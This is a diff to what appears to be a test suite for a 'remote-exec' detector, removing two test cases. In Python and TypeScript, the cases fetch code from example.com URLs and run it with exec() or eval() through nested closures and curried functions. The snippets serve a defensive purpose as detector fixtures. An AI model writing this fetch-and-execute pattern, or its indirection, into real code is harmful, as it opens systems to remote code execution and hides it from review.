@@ -471,35 +471,4 @@ describe('remote-exec', () => {
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
     `;
   });
-
-  it('follows text through a function that a function makes', () => {
-    python`
-      import requests
-      def on_done(callback):
-          return lambda data: callback(data.decode())
-      def apply(text):
-          exec(text)
-               ^^^^ remote-exec
-      handler = on_done(apply)
-      handler(requests.get("https://example.com/a.py").content)
-      def runner():
-          def run(text):
-              exec(text)
-                   ^^^^ remote-exec
-          return run
-      runner()(requests.get("https://example.com/b.py").text)
-    `;
-  });
-
-  it('follows text through an arrow that an arrow makes', () => {
-    typescript`
-      const onDone = (callback: (text: string) => void) => (data: string) => callback(data.trim());
-      function apply(text: string) {
-        eval(text);
-             ^^^^ remote-exec
-      }
-      const handler = onDone(apply);
-      handler(await (await fetch("https://example.com/a.js")).text());
-    `;
-  });
 });
